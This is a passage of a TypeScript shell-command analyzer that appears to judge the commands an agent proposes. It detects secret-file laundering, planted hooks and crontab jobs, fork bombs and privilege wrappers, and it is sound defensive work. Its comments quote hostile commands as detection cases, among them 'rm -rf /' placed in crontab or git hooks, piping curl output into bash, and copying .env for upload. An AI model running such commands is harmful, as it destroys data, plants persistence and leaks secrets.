      ...(value.opaque ? { opaque: value.opaque } : {}),
      ...(value.codeLike ? { codeLike: true } : {}),
      ...(value.known && part.param !== 'HOME' ? { via: `$${part.param}` } : {}),
    };
  });
  return fieldsOf(pieces, walk);
}

function valueOfFields(fields: Field[]): Value {
  return {
    text: joinFields(fields),
    known: fields.every((f) => !f.dynamic),
    ...(fields.some((f) => f.reads) ? { reads: fields.flatMap((f) => f.reads ?? []) } : {}),
    ...(fields.find((f) => f.opaque) ? { opaque: fields.find((f) => f.opaque)!.opaque! } : {}),
    ...(fields.some((f) => f.codeLike) ? { codeLike: true } : {}),
  };
}

// ------------------------------------------------------------------------------ walking

function runStmts(stmts: ShNode[], walk: Walk, stdin?: Stream): Stream | undefined {
  let output: Stream | undefined;
  let literal = '';
  let allLiteral = true;
  for (const stmt of stmts) {
    output = runStmt(stmt, walk, stdin);
    if (output?.literal !== undefined) literal += output.literal;
    else allLiteral = false;
  }
  return allLiteral && stmts.length > 0 ? { literal } : output;
}

function runSubstitution(stmts: ShNode[], walk: Walk): Stream | undefined {
  // A substitution runs in a subshell: its assignments do not leak out.
  const inner = child(walk, newScope(walk.scope.positional, walk.scope));
  return inner ? runStmts(stmts, inner) : undefined;
}

interface Redirects {
  stdin?: Stream;
  /** Files the command's standard output goes to. */
  writes?: { target: string; append: boolean }[];
}

function applyRedirects(stmt: ShNode, walk: Walk): Redirects {
  const result = applyRedirectsToStdin(stmt, walk);
  // `exec 3<<<'…'` or `exec 3< <(curl …)` opens descriptor 3; `bash <&3` reads it.
  for (const redir of list(stmt['Redirs'])) {
    const n = redir['N'] ? litValue(redir['N']) : '';
    const op = Number(redir['Op']);
    if (/^[3-9]$/.test(n) && (REDIR_HEREDOC.has(op) || op === REDIR_HERESTRING || op === REDIR_IN)) {
      const single = applyRedirectsToStdin({ Redirs: [redir] } as unknown as ShNode, walk).stdin;
      const proc =
        op === REDIR_IN ? expandWord(redir['Word'] as ShNode | undefined, walk)[0]?.proc : undefined;
      const opened = proc ?? single;
      if (opened !== undefined) {
        walk.ctx.fds ??= new Map();
        walk.ctx.fds.set(n, opened);
      }
      if (result.stdin === single) delete result.stdin;
    } else if (op === REDIR_DUP_IN) {
      const from = wordString(redir['Word'] as ShNode | undefined, walk).text;
      const opened = walk.ctx.fds?.get(from);
      if (opened !== undefined) result.stdin = opened;
    }
  }
  return result;
}

function applyRedirectsToStdin(stmt: ShNode, walk: Walk): Redirects {
  const result: Redirects = {};
  for (const redir of list(stmt['Redirs'])) {
    const op = Number(redir['Op']);
    if (REDIR_HEREDOC.has(op)) {
      const body = (redir['Hdoc'] as ShNode | undefined) ?? (redir['Word'] as ShNode | undefined);
      const value = wordString(body, walk);
      result.stdin = value.known
        ? { literal: value.text }
        : { unknown: value.opaque ?? 'a here-document with unknown expansions' };
      continue;
    }
    if (op === REDIR_HERESTRING) {
      const value = wordString(redir['Word'] as ShNode | undefined, walk);
      result.stdin = value.known
        ? { literal: `${value.text}\n` }
        : {
            unknown: value.opaque ?? 'a here-string with unknown expansions',
            ...(value.reads ? { files: value.reads } : {}),
          };
      continue;
    }
    const targetValue = wordString(redir['Word'] as ShNode | undefined, walk);
    const target = targetValue.text;
    if (/^\/dev\/(?:tcp|udp)\//.test(target)) judgeRedirect('out', target, walk);
    else if (REDIR_OUT.has(op) && !/^\d+$|^-$/.test(target)) {
      judgeRedirect('out', target, walk);
      // `>`, `>>`, `>|`, `&>`, `&>>`: standard output goes to the file (not `2>`, not `>&`).
      if (op !== 59 && targetValue.known && (!redir['N'] || litValue(redir['N']) === '1')) {
        result.writes ??= [];
        result.writes.push({ target, append: op === 55 || op === 65 });
      }
    } else if (op === REDIR_IN) {
      judgeRedirect('in', target, walk);
      result.stdin = (targetValue.known
        ? writtenFile({ text: target, dynamic: false }, walk)
        : undefined) ?? { files: [target] };
    }
  }
  return result;
}

function runStmt(stmt: ShNode, walk: Walk, stdin?: Stream): Stream | undefined {
  const redirects = applyRedirects(stmt, walk);
  // `$(<file)`: a statement that is only an input redirection gives the file's contents.
  if (!stmt['Cmd'] && redirects.stdin !== undefined && redirects.writes === undefined) return redirects.stdin;
  const output = runCommand(stmt['Cmd'] as ShNode | undefined, walk, redirects.stdin ?? stdin);
  if (redirects.writes === undefined) return output;
  for (const write of redirects.writes) remember(walk, write.target, output, write.append);
  return undefined;
}

/**
 * A file written earlier in the command line: `echo 'rm -rf /' > x.sh` remembers the literal,
 * `curl -o x.sh URL` what the fetch returns, anything else as unknown output.
 */
function remember(walk: Walk, target: string, content: Stream | undefined, append = false): void {
  const written = walk.ctx.written;
  if (target === '') return;
  const key = normalizePath(target, walk.ctx.cwd);
  if (content?.literal !== undefined) judgePlanted(key, content.literal, walk);
  if (!written.has(key) && written.size >= MAX_WRITTEN_FILES) return;
  const before = append ? written.get(key) : undefined;
  const stream: Stream =
    content === undefined
      ? { unknown: 'the output of a command' }
      : content.literal !== undefined
        ? { literal: content.literal.slice(0, MAX_DECODED) }
        : content;
  if (before?.literal !== undefined && stream.literal !== undefined) {
    written.set(key, { literal: (before.literal + stream.literal).slice(0, MAX_DECODED) });
  } else if (before !== undefined && before.literal !== '') {
    written.set(key, { unknown: describeStream(before) ?? 'the output of a command' });
  } else {
    written.set(key, stream);
  }
}

/**
 * The secret files a file made earlier in the command line holds: `cp .env /tmp/x`,
 * `cat .env > n`, `ln -s .env x`, `tar czf a.tgz .env`. An upload of the copy is an upload of them.
 */
function carriedSecrets(path: string, walk: Walk): string[] {
  if (path === '' || walk.ctx.written.size === 0) return [];
  const stream = walk.ctx.written.get(normalizePath(path, walk.ctx.cwd));
  return (stream?.files ?? []).filter((f) => sensitiveFileKind(f) !== undefined);
}

/** Secret files among `texts`, as named or as copies made earlier. */
function secretSources(texts: readonly string[], walk: Walk): string[] {
  return texts.flatMap((t) => (sensitiveFileKind(t) !== undefined ? [t] : carriedSecrets(t, walk)));
}

/**
 * A word that names a file (`/tmp/x`, `@/tmp/x`, `f=@/tmp/x;type=text/plain`, `<x`,
 * `--post-file=/tmp/x`) with a copy
 * of a secret file named by that file, so the upload is judged as what it sends.
 */
function unlaundered(text: string, walk: Walk): string {
  if (walk.ctx.written.size === 0) return text;
  const at = Math.max(text.lastIndexOf('@'), text.lastIndexOf('<'), text.lastIndexOf('='));
  const head = at >= 0 ? text.slice(0, at + 1) : '';
  let path = at >= 0 ? text.slice(at + 1) : text;
  const semi = path.indexOf(';');
  const tail = semi >= 0 ? path.slice(semi) : '';
  if (semi >= 0) path = path.slice(0, semi);
  const [secret] = carriedSecrets(path, walk);
  return secret === undefined ? text : `${head}${secret}${tail}`;
}

/** Where tar, zip and 7z write an archive, and what they put in it. */
function archiveOf(name: string, texts: readonly string[]): { out: string; sources: string[] } | undefined {
  if (name === 'zip') {
    const operands = texts.filter((t) => !t.startsWith('-'));
    return operands.length >= 2 ? { out: operands[0]!, sources: operands.slice(1) } : undefined;
  }
  if (name === '7z' || name === '7za' || name === '7zz') {
    const operands = texts.filter((t) => !t.startsWith('-'));
    return operands[0] === 'a' && operands.length >= 3
      ? { out: operands[1]!, sources: operands.slice(2) }
      : undefined;
  }
  if (name !== 'tar' && name !== 'bsdtar') return undefined;
  let out: string | undefined;
  let create = false;
  const sources: string[] = [];
  for (let i = 0; i < texts.length; i++) {
    const t = texts[i]!;
    if (t === '--create') create = true;
    else if (t.startsWith('--file=')) out = t.slice(7);
    else if (t === '--file' || t === '-f') out = texts[++i];
    else if (/^-?[A-Za-z]+$/.test(t) && (i === 0 || t.startsWith('-')) && !t.startsWith('--')) {
      // `czf out.tgz`, `-cvzf out.tgz`: bundled letters, the archive after an f.
      if (/c/.test(t)) create = true;
      if (t.endsWith('f')) out = texts[++i];
    } else if (!t.startsWith('-')) sources.push(t);
  }
  return create && out !== undefined ? { out, sources } : undefined;
}

/** `cp .env /tmp/x`, `mv`, `install`, `ln`, and archives that hold a secret file: remember what the copy holds. */
function rememberSecretCopies(name: string, args: Field[], walk: Walk): void {
  if (args.some((a) => a.dynamic)) return;
  const texts = args.map((a) => a.text);
  let target: string | undefined;
  let sources: string[] = [];
  if (/^(?:cp|mv|install|ln|rsync)$/.test(name)) {
    const operands = texts.filter((t) => !t.startsWith('-'));
    if (operands.length < 2) return;
    target = operands[operands.length - 1]!;
    // `rsync .env host:` is an upload, judged as one; only a local copy is remembered.
    if (name === 'rsync' && /^[^/]*:/.test(target)) return;
    sources = operands.slice(0, -1);
  } else if (name === 'dd') {
    target = texts.find((t) => t.startsWith('of='))?.slice(3);
    const source = texts.find((t) => t.startsWith('if='))?.slice(3);
    sources = source === undefined ? [] : [source];
  } else if (name === 'openssl' || name === 'gpg' || name === 'gpg2' || name === 'age') {
    // `openssl enc -in .env -out x`, `gpg -c -o x .env`, `age -r key -o x .env`: the file encrypted.
    const value = (flags: RegExp) => {
      const at = texts.findIndex((t) => flags.test(t));
      return at < 0 ? undefined : texts[at + 1];
    };
    target = name === 'openssl' ? value(/^-out$/) : value(/^(?:-o|--output)$/);
    const source = name === 'openssl' ? value(/^-in$/) : texts[texts.length - 1];
    sources = source === undefined || source === target ? [] : [source];
  } else {
    const archive = archiveOf(name, texts);
    if (archive === undefined) return;
    target = archive.out;
    sources = archive.sources;
  }
  const secrets = secretSources(sources, walk);
  if (target !== undefined && secrets.length > 0)
    remember(walk, target, { unknown: `a copy of ${secrets.join(' ')}`, files: secrets });
}

/**
 * `crontab -` or `crontab file` installs the table it reads: each job's command will run, so it
 * is judged now (`(crontab -l; echo '* * * * * rm -rf /') | crontab -`). The table is the
 * standard input or a file written earlier in the command line; one of unknown content is not judged.
 */
function judgeCrontab(args: Field[], walk: Walk, stdin?: Stream): void {
  const valued = new Set(['-u']);
  let table: Field | undefined;
  for (let i = 0; i < args.length; i++) {
    const text = args[i]!.text;
    if (valued.has(text)) i++;
    else if (text === '-') table = args[i];
    else if (text.startsWith('-')) {
      if (/^-[lre]/.test(text)) return;
    } else table ??= args[i];
  }
  const content = table === undefined || table.text === '-' ? stdin : writtenFile(table, walk);
  if (content?.literal === undefined) return;
  const inner = child(walk);
  if (!inner) return;
  for (const line of content.literal.split('\n').slice(0, 256)) {
    const job = cronCommand(line);
    if (job !== undefined) analyzeScript(job, inner);
  }
}

/** The command of one crontab line: after five time fields or an `@daily`-style nickname. */
function cronCommand(line: string): string | undefined {
  const text = line.trim();
  if (text === '' || text.startsWith('#') || /^[A-Za-z_][A-Za-z0-9_]*\s*=/.test(text)) return undefined;
  const m = /^(?:@\w+|(?:\S+\s+){4}\S+)\s+(.+)$/.exec(text);
  // `%` ends the command in a crontab line; what follows is its standard input.
  return m ? m[1]!.split(/(?<!\\)%/)[0] : undefined;
}

/**
 * `echo 'rm -rf ~' > .git/hooks/pre-commit`, `>> ~/.bashrc`, a unit's `ExecStart=`: text written
 * to a file that runs later is judged as the command it will be, as `fs.write` of it is. A local
 * tool's output evaluated there (`eval "$(starship init bash)"`) is ordinary; fetched code is not.
 */
let plantedDepth = 0;
/** Planted files inside planted files judged (a start-up file that writes a hook that…). */
const MAX_PLANTED_DEPTH = 2;

/**
 * Findings for text written to `path` when that file runs later (a git hook, a shell start-up
 * file, a systemd unit: `autoRunCommands`), as the command it will be. A local tool's output
 * evaluated there (`eval "$(starship init bash)"`) is ordinary; fetched code is not. `fs.write`
 * and the shell's own writes (`echo … >> ~/.bashrc`) both come here.
 */
export function plantedFindings(
  path: string,
  content: string,
  options: Pick<ShellOptions, 'egress' | 'paths' | 'catalogue' | 'execution'>,
): Finding[] {
  return plantedReading(path, content, options).findings;
}

/** `plantedFindings`, with the steps of the commands the file will run. */
export function plantedReading(
  path: string,
  content: string,
  options: Pick<ShellOptions, 'egress' | 'paths' | 'catalogue' | 'execution'>,
): ShellReading {
  if (plantedDepth >= MAX_PLANTED_DEPTH) return { findings: [], steps: [] };
  const paths = options.paths ?? DEFAULT_PATH_CONTEXT;
  let commands = autoRunCommands(path, content, paths);
  let where = describeTarget(path);
  const findings: Finding[] = [];
  if (commands.length === 0) {
    const later = runLater(normalizePath(path, paths), content);
    if (later === undefined) return { findings: [], steps: [] };
    commands = later.commands;
    where = `${where}, ${later.kind}`;
    if (later.approvesEverything !== undefined) {
      findings.push({
        code: 'POLICY_VIOLATION',
        message: `${later.approvesEverything} lets the agent run every command without asking (security control: a change only a person should make)`,
        location: `path ${describeTarget(path)}`,
      });
    }
  }
  const steps: Step[] = [];
  plantedDepth++;
  try {
    // `env: {}` keeps these out of the per-command memo: their result depends on the depth.
    for (const command of commands) {
      const reading = readShell(command, { ...options, env: {} });
      steps.push(...reading.steps);
      findings.push(
        ...reading.findings
          .filter(
            (f) =>
              !(f.code === 'POLICY_VIOLATION' && f.location === 'opaque code' && !/\bfetch/.test(f.message)),
          )
          .map((f) => ({ ...f, message: `${f.message} (written to ${where}, which runs it later)` })),
      );
    }
  } finally {
    plantedDepth--;
  }
  return { findings, steps };
}

function judgePlanted(path: string, text: string, walk: Walk): void {
  const { egress, paths, catalogue, execution } = walk.ctx;
  const reading = plantedReading(path, text, { egress, paths, catalogue, execution });
  walk.findings.push(...reading.findings);
  walk.steps.push(...reading.steps);
}

/** What a file written earlier in the command line holds, when it was. */
function writtenFile(path: Field | undefined, walk: Walk): Stream | undefined {
  if (path === undefined || path.dynamic || path.text === '' || walk.ctx.written.size === 0) return undefined;
  return walk.ctx.written.get(normalizePath(path.text, walk.ctx.cwd));
}

function runCommand(cmd: ShNode | undefined, walk: Walk, stdin?: Stream): Stream | undefined {
  if (!cmd) return undefined;
  switch (nodeType(cmd)) {
    case 'CallExpr': {
      const assigns = list(cmd['Assigns']);
      const args = list(cmd['Args']);
      const fields: Field[] = [];
      for (const arg of args) fields.push(...expandWord(arg, walk));
      // `X=v cmd` gives X to the command, after its own words were expanded.
      for (const a of assigns) {
        const value = assignedValue(a, walk);
        judgePathsInText(value.text, walk);
        assign(walk, litValue(a['Name']), value);
      }
      if (args.length === 0) return undefined;
      return judgeCommand(fields, walk, stdin);
    }
    case 'BinaryCmd': {
      const left = cmd['X'] as ShNode;
      const right = cmd['Y'] as ShNode;
      if (PIPE_OPS.has(Number(cmd['Op']))) return runStmt(right, walk, runStmt(left, walk, stdin));
      runStmt(left, walk, stdin);
      return runStmt(right, walk);
    }
    case 'Subshell': {
      const inner = child(walk, newScope(walk.scope.positional, walk.scope));
      return inner ? runStmts(list(cmd['Stmts']), inner, stdin) : undefined;
    }
    case 'Block':
      return runStmts(list(cmd['Stmts']), walk, stdin);
    case 'IfClause': {
      let clause: ShNode | undefined = cmd;
      while (clause) {
        runStmts(list(clause['Cond']), walk);
        runStmts(list(clause['Then']), walk);
        clause = clause['Else'] as ShNode | undefined;
      }
      return undefined;
    }
    case 'WhileClause':
      // `… | while read x; do …; done`: the condition reads what is piped in.
      runStmts(list(cmd['Cond']), walk, stdin);
      runStmts(list(cmd['Do']), walk);
      return undefined;
    case 'ForClause':
      runFor(cmd, walk);
      return undefined;
    case 'CaseClause':
      for (const item of list(cmd['Items'])) runStmts(list(item['Stmts']), walk);
      return undefined;
    case 'FuncDecl': {
      const name = litValue(cmd['Name']);
      judgeForkBomb(name, cmd['Body'] as ShNode | undefined, walk);
      if (name !== '') {
        walk.scope.functions ??= new Map();
        walk.scope.functions.set(name, cmd['Body'] as ShNode);
      }
      return undefined;
    }
    case 'TimeClause':
      return cmd['Stmt'] ? runStmt(cmd['Stmt'] as ShNode, walk, stdin) : undefined;
    case 'CoprocClause': {
      // The coprocess's output is read through ${COPROC[0]}: `bash <&"${COPROC[0]}"`.
      const output = cmd['Stmt'] ? runStmt(cmd['Stmt'] as ShNode, walk, stdin) : undefined;
      const name = cmd['Name'] ? litValue(cmd['Name']) || 'COPROC' : 'COPROC';
      walk.ctx.fds ??= new Map();
      walk.ctx.fds.set('63', output ?? { unknown: 'the output of a coprocess' });
      assign(walk, name, { text: '63 62', known: true, array: true, items: ['63', '62'] });
      return undefined;
    }
    case 'DeclClause': {
      // `declare -n t=target`: t is a name reference; reading it reads target.
      let nameref = false;
      for (const a of list(cmd['Args'])) {
        const name = litValue(a['Name']);
        if (a['Naked']) {
          const word = a['Value'] ? wordString(a['Value'] as ShNode, walk).text : name;
          if (/^-[a-zA-Z]*n/.test(word)) nameref = true;
          continue;
        }
        const value = wordString(a['Value'] as ShNode | undefined, walk);
        judgePathsInText(value.text, walk);
        if (name !== '') assign(walk, name, nameref && value.known ? { ...value, ref: value.text } : value);
      }
      return undefined;
    }
    case 'TestClause': {
      // `[[ word =~ regex ]]` sets BASH_REMATCH to the match and its groups.
      const test = cmd['X'] as ShNode | undefined;
      if (nodeType(test) === 'BinaryTest' && Number(test?.['Op']) === TEST_REMATCH) {
        const left = wordString(test!['X'] as ShNode, walk);
        const right = test!['Y'] as ShNode | undefined;
        const pattern = right
          ? list(right['Parts'])
              .map((q) => (nodeType(q) === 'Lit' ? litValue(q) : '\0'))
              .join('')
          : '';
        if (left.known && !pattern.includes('\0') && pattern.length <= 256) {
          let match: RegExpExecArray | null = null;
          try {
            match = new RegExp(pattern).exec(left.text);
          } catch {
            match = null;
          }
          const items = match ? [...match].map((g) => g ?? '') : [];
          assign(walk, 'BASH_REMATCH', { text: items.join(' '), known: true, array: true, items });
        }
      }
      return undefined;
    }
    case 'LetClause':
    case 'ArithmCmd':
      return undefined;
    default:
      return undefined;
  }
}

/** The value an assignment gives: a word, or an array `(a b c)` kept as its words. */
function assignedValue(a: ShNode, walk: Walk): Value {
  const array = a['Array'] as ShNode | undefined;
  if (!array) return wordString(a['Value'] as ShNode | undefined, walk);
  let fields: Field[] = [];
  const placed: Field[] = [];
  for (const elem of list(array['Elems'])) {
    const words = expandWord(elem['Value'] as ShNode | undefined, walk);
    // `([2]=x [0]=rm)`: an explicit index places the element.
    const index = elem['Index'] ? Number(wordString(elem['Index'] as ShNode, walk).text) : Number.NaN;
    if (Number.isInteger(index) && index >= 0 && index < MAX_FIELDS && words.length === 1)
      placed[index] = words[0]!;
    else fields.push(...words);
  }
  if (placed.length > 0) fields = [...placed.filter((f) => f !== undefined), ...fields];
  const value: Value = { ...valueOfFields(fields), array: true };
  if (fields.every((f) => !f.dynamic)) value.items = fields.map((f) => f.text);
  return value;
}

function runFor(cmd: ShNode, walk: Walk): void {
  const loop = cmd['Loop'] as ShNode | undefined;
  const body = list(cmd['Do']);
  if (nodeType(loop) !== 'WordIter') {
    runStmts(body, walk);
    return;
  }
  const name = litValue(loop?.['Name']);
  const items: Field[] = [];
  for (const word of list(loop?.['Items'])) items.push(...expandWord(word, walk));
  if (items.length === 0) {
    assign(walk, name, { text: '', known: false });
    runStmts(body, walk);
    return;
  }
  for (const item of items.slice(0, MAX_ITEMS)) {
    assign(walk, name, { text: item.text, known: !item.dynamic });
    runStmts(body, walk);
  }
}

/** A function that calls itself in a pipeline or in the background multiplies without bound. */
function judgeForkBomb(name: string, body: ShNode | undefined, walk: Walk): void {
  if (name === '' || !body) return;
  let calls = 0;
  let spawns = false;
  const visit = (node: ShNode | undefined): void => {
    if (!node) return;
    const type = nodeType(node);
    if (type === 'Stmt') {
      if (node['Background']) spawns = true;
      visit(node['Cmd'] as ShNode | undefined);
    } else if (type === 'BinaryCmd') {
      if (PIPE_OPS.has(Number(node['Op']))) spawns = true;
      visit(node['X'] as ShNode);
      visit(node['Y'] as ShNode);
    } else if (type === 'Block' || type === 'Subshell') {
      for (const s of list(node['Stmts'])) visit(s);
    } else if (type === 'CallExpr') {
      const first = list(node['Args'])[0];
      if (first && list(first['Parts']).map(litValue).join('') === name) calls++;
    }
  };
  visit(body);
  if (spawns && calls >= 1) destructive(walk, 'fork bomb', `function "${name.slice(0, 20)}"`);
}

// ------------------------------------------------------------------------------ commands

const SHELLS = new Set([
  'sh',
  'bash',
  'zsh',
  'dash',
  'ksh',
  'ash',
  'mksh',
  'yash',
  'fish',
  'rbash',
  'tcsh',
  'csh',
]);
const INTERPRETERS =
  /^(?:python[\d.]*|pypy3?|node|nodejs|deno|bun|ruby|irb|perl[\d.]*|php[\d.]*|lua[\d.]*|luajit|tclsh[\d.]*|wish|expect|Rscript|osascript|jshell|groovy|julia|elixir|iex|erl|escript|scala|amm|kotlin|kotlinc|swift)$/;
const AWKS = /^[gmn]?awk$/;

/** Wrappers that run their argument as a command, with the options that take a value. */
const WRAPPERS: Record<string, Set<string>> = lookupTable({
  sudo: new Set([
    '-u',
    '-g',
    '-h',
    '-p',
    '-C',
    '-D',
    '-r',
    '-t',
    '-U',
    '-T',
    '--user',
    '--group',
    '--host',
    '--prompt',
    '--chdir',
    '--role',
    '--type',
    '--other-user',
    '--close-from',
    '--command-timeout',
  ]),
  doas: new Set(['-u', '-C']),
  env: new Set(['-u', '-C', '--unset', '--chdir', '-P']),
  nice: new Set(['-n', '--adjustment']),
  ionice: new Set(['-c', '-n', '-p', '--class', '--classdata']),
  chrt: new Set(),
  taskset: new Set(),
  time: new Set(['-f', '-o', '--format', '--output']),
  command: new Set(),
  builtin: new Set(),
  exec: new Set(['-a']),
  nohup: new Set(),
  timeout: new Set(['-s', '-k', '--signal', '--kill-after']),
  stdbuf: new Set(['-i', '-o', '-e']),
  unbuffer: new Set(),
  strace: new Set(['-o', '-e', '-p', '-s', '-E', '-u']),
  ltrace: new Set(['-o', '-e', '-p', '-s', '-u']),
  setsid: new Set(),
  flock: new Set(['-w', '-E', '--timeout', '--conflict-exit-code']),
  caffeinate: new Set(['-t', '-w']),
  fakeroot: new Set(['-l', '-s', '-i']),
  torsocks: new Set(['-u', '-p', '-a', '-P']),
  proxychains: new Set(['-f']),
  proxychains4: new Set(['-f']),
  'xvfb-run': new Set(['-n', '-s', '-f', '-e', '-p']),
  firejail: new Set(),
  catchsegv: new Set(),
  pkexec: new Set(['--user']),
  runuser: new Set(['-u', '-g', '-G', '--user', '--group', '-s', '--shell']),
  busybox: new Set(),
  chronic: new Set(),
  'dbus-launch': new Set(),
  nsenter: new Set(['-t', '--target', '-S', '--setuid', '-G', '--setgid', '-r', '--root', '-w', '--wd']),
  chroot: new Set(['--userspec', '--groups']),
  sg: new Set(),
  script: new Set(['-c', '-O', '-I', '--command']),
  wsl: new Set(['-d', '--distribution', '-u', '--user', '--cd']),
  'systemd-run': new Set([
    '-p',
    '--property',
    '-u',
    '--unit',
    '-E',
    '--setenv',
    '--uid',
    '--gid',
    '--nice',
    '--working-directory',
    '--description',
    '--slice',
    '-M',
    '--machine',
    '-H',
    '--host',
    '--on-active',
    '--on-boot',
    '--on-calendar',
    '--timer-property',
    '--path-property',
    '--socket-property',
  ]),
  unshare: new Set([
    '--propagation',
    '--setgroups',
    '--map-user',
    '--map-group',
    '-S',
    '--setuid',
    '-G',
    '--setgid',
    '-R',
    '--root',
    '-w',
    '--wd',
  ]),
  'flatpak-spawn': new Set(),
  chpst: new Set(['-u', '-U', '-e', '-/', '-n', '-l', '-L', '-m', '-d', '-o', '-p', '-f', '-c', '-r', '-t']),
  proot: new Set(['-r', '-b', '-w', '-k', '-q', '--rootfs', '--bind', '--cwd', '--kernel-release', '--qemu']),
  toybox: new Set(),
  nocache: new Set(),
  trickle: new Set(['-u', '-d', '-w', '-t', '-l', '-n']),
  // Container init processes, privilege droppers, resource and profiling wrappers.
  tini: new Set(['-p', '-e']),
  'dumb-init': new Set(['-r', '--rewrite']),
  gosu: new Set(),
  'su-exec': new Set(),
  setpriv: new Set([
    '--reuid',
    '--regid',
    '--ruid',
    '--rgid',
    '--euid',
    '--egid',
    '--groups',
    '--inh-caps',
    '--ambient-caps',
    '--bounding-set',
    '--securebits',
    '--selinux-label',
    '--apparmor-profile',
    '--pdeathsig',
  ]),
  'with-contenv': new Set(),
  'dbus-run-session': new Set(['--config-file', '--dbus-daemon']),
  cgexec: new Set(['-g']),
  numactl: new Set([
    '-N',
    '-C',
    '-m',
    '-p',
    '-i',
    '--cpunodebind',
    '--membind',
    '--physcpubind',
    '--interleave',
    '--preferred',
  ]),
  prlimit: new Set(['-p', '--pid']),
  valgrind: new Set(),
  perf: new Set([
    '-e',
    '-o',
    '-p',
    '-t',
    '-C',
    '-r',
    '-G',
    '-x',
    '--event',
    '--output',
    '--pid',
    '--tid',
    '--cpu',
    '--repeat',
    '--cgroup',
  ]),
});
/** Package runners, with the subcommand that runs a program ('' when they run it directly). */
const PACKAGE_RUNNERS: Record<string, string> = lookupTable({
  npx: '',
  pnpx: '',
  bunx: '',
  pnpm: 'exec',
  yarn: 'exec',
  bundle: 'exec',
  poetry: 'run',
  uv: 'run',
  pipx: 'run',
  pdm: 'run',
  hatch: 'run',
  conda: 'run',
});

/** Wrappers whose first operands are not the command (timeout's duration, chroot's root…). */
const WRAPPER_OPERANDS: Record<string, number> = lookupTable({
  gosu: 1,
  'su-exec': 1,
  // `perf stat|record|trace … cmd`: the subcommand, then the command.
  perf: 1,
  timeout: 1,
  chroot: 1,
  flock: 1,
  chrt: 1,
  taskset: 1,
  sg: 1,
});

const FLAG_TAKES_ALL_REST: Record<string, Set<string>> = lookupTable({
  // `flock -c 'cmd'`, `script -c 'cmd'`, `su -c 'cmd'`, `runuser -c`, `sg group -c`
  flock: new Set(['-c', '--command']),
  script: new Set(['-c', '--command']),
  runuser: new Set(['-c', '--command']),
  sg: new Set(['-c']),
});

interface Unwrapped {
  argv: Field[];
  /** The command as a package runner was given it, before the runner was removed. */
  runnerArgv?: Field[];
  /** A script a wrapper runs as one string (`su -c '…'`, `env -S '…'`). */
  script?: Field;
}

function unwrap(argv: Field[], walk: Walk): Unwrapped {
  let current = argv;
  let runnerArgv: Field[] | undefined;
  for (let guard = 0; guard < 12 && current.length > 0; guard++) {
    const first = current[0]!;
    const name = baseName(first.text);
    if (name === 'su') {
      const c = current.findIndex(
        (w) => w.text === '-c' || w.text === '--command' || w.text.startsWith('--command='),
      );
      // No command: su starts the user's shell, which reads its standard input.
      if (c < 0) return { argv: [{ text: 'sh', dynamic: false }] };
      const arg = current[c]!.text.startsWith('--command=')
        ? { ...current[c]!, text: current[c]!.text.slice(10) }
        : current[c + 1];
      return arg ? { argv: [], script: arg } : { argv: [] };
    }
    // `gdb -batch -ex run --args rm -rf /`: the words after --args are the program and its arguments.
    if (name === 'gdb' || name === 'lldb') {
      const args = current.findIndex((w) => w.text === '--args' || (name === 'lldb' && w.text === '--'));
      if (args < 0) return { argv: [] };
      current = current.slice(args + 1);
      continue;
    }
    // `capsh … -- -c 'cmd'`: what follows `--` goes to /bin/bash.
    if (name === 'capsh') {
      const dashes = current.findIndex((w) => w.text === '--');
      if (dashes < 0) return { argv: [] };
      current = [{ text: 'bash', dynamic: false }, ...current.slice(dashes + 1)];
      continue;
    }
    // `sg group 'cmd'` (the -c is optional): the word after the group is a command line for sh.
    if (name === 'sg' && !current.some((w) => w.text === '-c')) {
      const operands = current.slice(1).filter((w) => !w.text.startsWith('-'));
      return operands[1] ? { argv: [], script: operands[1] } : { argv: [] };
    }
    // `hyperfine 'cmd' …`: each operand, and --prepare, --setup and --cleanup, is a command line.
    if (name === 'hyperfine') {
      const scripts: Field[] = [];
      const valued =
        /^(?:-w|--warmup|-m|--min-runs|-M|--max-runs|-r|--runs|-n|--command-name|-S|--shell|-o|--output|--export-\w+|--style|--time-unit|--sort|-u)$/;
      const scriptValued = /^(?:-p|--prepare|-s|--setup|-c|--cleanup|--conclude)$/;
      for (let k = 1; k < current.length; k++) {
        const t = current[k]!.text;
        if (scriptValued.test(t)) scripts.push(current[++k]!);
        else if (/^(?:-P|--parameter-scan)$/.test(t)) k += 3;
        else if (/^(?:-L|--parameter-list)$/.test(t)) k += 2;
        else if (valued.test(t)) k++;
        else if (!t.startsWith('-')) scripts.push(current[k]!);
      }
      const known = scripts.filter((f) => f !== undefined);
      if (known.length === 0) return { argv: [] };
      return {
        argv: [],
        script: {
          text: known.map((f) => f.text).join('\n'),
          dynamic: known.some((f) => f.dynamic),
        },
      };
    }
    const takesScript = FLAG_TAKES_ALL_REST[name];
    if (takesScript) {
      const c = current.findIndex((w) => takesScript.has(w.text) || /^-[a-zA-Z]*c$/.test(w.text));
      if (c >= 0 && current[c + 1]) return { argv: [], script: current[c + 1]! };
    }
    if (name === 'env') {
      const s = current.findIndex(
        (w) => w.text === '-S' || w.text.startsWith('--split-string') || /^-[a-zA-Z]*S/.test(w.text),
      );
      if (s >= 0) {
        const w = current[s]!;
        const inline = w.text.startsWith('--split-string=')
          ? w.text.slice(15)
          : /^-[a-zA-Z]*S(.+)$/.exec(w.text)?.[1];
        const script = inline !== undefined ? { ...w, text: inline } : current[s + 1];
        if (script)
          return {
            argv: [],
            script: { ...script, text: [script.text, ...current.slice(s + 2).map((f) => f.text)].join(' ') },
          };
      }
    }
    if (name === 'command' && current.some((w, i) => i > 0 && (w.text === '-v' || w.text === '-V')))
      return { argv: [] };
    if (
      name === 'nsenter' &&
      current.some(
        (w, i) =>
          i > 0 &&
          /^(?:-t|--target)(?:=?1)?$/.test(w.text) &&
          (w.text.endsWith('1') || current[i + 1]?.text === '1'),
      )
    ) {
      push(
        walk,
        'FILESYSTEM_DENIED',
        "nsenter enters the host's namespaces (PID 1): everything on the host is exposed",
        'command "nsenter"',
      );
    }
    // Package runners run the program they are given: `npx rimraf /`, `pnpm exec rm -rf /`.
    const runner = PACKAGE_RUNNERS[name];
    if (runner !== undefined && (runner === '' || current[1]?.text === runner)) {
      let k = runner === '' ? 1 : 2;
      while (k < current.length && current[k]!.text.startsWith('-')) {
        // Options that take a value (`uv run --with sentry-sdk python …`, `poetry run -C dir …`).
        k +=
          /^(?:-p|--package|--node-options|-c|--call|--with|--with-requirements|--with-editable|--python|--from|--project|--directory|-C|--env-file|--group|--extra|--index|--spec|-e|--environment|--filter|-F)$/.test(
            current[k]!.text,
          )
            ? 2
            : 1;
      }
